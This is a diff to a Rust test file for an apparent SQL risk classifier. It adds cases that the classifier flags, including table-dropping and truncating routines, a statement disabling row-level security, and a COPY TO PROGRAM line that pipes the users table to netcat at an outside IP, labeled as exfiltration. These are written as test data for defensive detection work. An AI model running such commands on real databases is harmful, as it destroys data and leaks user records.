@@ -42,6 +42,11 @@ fn reads_give_nothing() {
         "SELECT count(*) FROM api_keys",
         "SELECT count(*) FROM (SELECT token FROM api_keys) t",
         "SELECT key, value FROM settings",
+        "SELECT name, is_secret, has_password FROM settings",
+        "EXPLAIN (ANALYZE false, BUFFERS off) UPDATE invoices SET status = 'void'",
+        "EXPLAIN (ANALYZE off) DELETE FROM invoices",
+        "SELECT truncate(12.345, 1)",
+        "SELECT delete_reason(id) FROM orders",
     ] {
         check(text, Environment::Unknown, None);
     }
@@ -175,4 +180,25 @@ fn a_query_that_shows_secrets_is_named_so() {
     }
     check("SELECT email, password_hash FROM users", Environment::Local, Some(Tier::Low));
     check("SELECT email, password_hash FROM users", Environment::Unknown, Some(Tier::Medium));
+}
+
+#[test]
+fn a_routine_is_judged_by_its_name_and_by_the_statements_it_is_given() {
+    let held = |text: &str, tier: Tier| check(text, Environment::Unknown, Some(tier));
+    held("EXEC sp_MSforeachtable 'DROP TABLE ?'", Tier::High);
+    held("EXEC sp_executesql N'TRUNCATE TABLE orders'", Tier::High);
+    held("CALL purge_all_customers()", Tier::Medium);
+    held("EXEC dbo.usp_DeleteOrders @before = '2024-01-01'", Tier::Medium);
+    held("SELECT app.wipe_tenant(4)", Tier::Medium);
+    held("SELECT purge_events()", Tier::Medium);
+    held("EXEC sp_helptext 'usp_DeleteOrder'", Tier::Low);
+    held("CALL refresh_totals()", Tier::Low);
+}
+
+#[test]
+fn a_guard_of_rows_that_goes_and_rows_that_leave_are_named() {
+    let rules = |text: &str| judge(text, Environment::Unknown).into_iter().map(|found| found.class).collect::<Vec<_>>();
+    assert!(rules("ALTER TABLE users DISABLE ROW LEVEL SECURITY").contains(&Class::Privilege));
+    assert!(rules("COPY users TO PROGRAM 'nc 203.0.113.4 99'").contains(&Class::Exfiltration));
+    assert!(!rules("COPY users FROM PROGRAM 'cat x'").contains(&Class::Exfiltration));
 }
